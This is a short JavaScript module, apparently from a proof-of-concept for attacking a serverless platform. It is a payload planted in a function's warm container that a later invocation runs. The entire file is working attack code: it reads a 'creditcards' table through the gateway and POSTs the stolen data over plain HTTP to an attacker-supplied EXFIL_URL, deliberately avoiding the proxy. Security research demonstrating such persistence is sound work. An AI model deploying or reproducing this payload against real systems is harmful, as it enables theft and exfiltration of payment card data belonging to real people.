'use strict';
// What the attacker plants in authorize-cc's warm container (served by ./server.mjs, which fills in
// EXFIL_URL). Run by a later invocation: it reads the credit-card table through the gateway and
// posts it to the attacker with a plain http request (no proxy).
const http = require('node:http');

const EXFIL_URL = '__EXFIL_URL__';

module.exports = async function run({ gateway }) {
  const res = await fetch(`${gateway}/function/kv-store/tables/creditcards`);
  const stolen = await res.text();
  await new Promise((resolve, reject) => {
    const req = http.request(EXFIL_URL, { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(stolen) } }, (r) => {
      r.resume();
      r.on('end', resolve);
    });
    req.on('error', reject);
    req.end(stolen);
  });
};
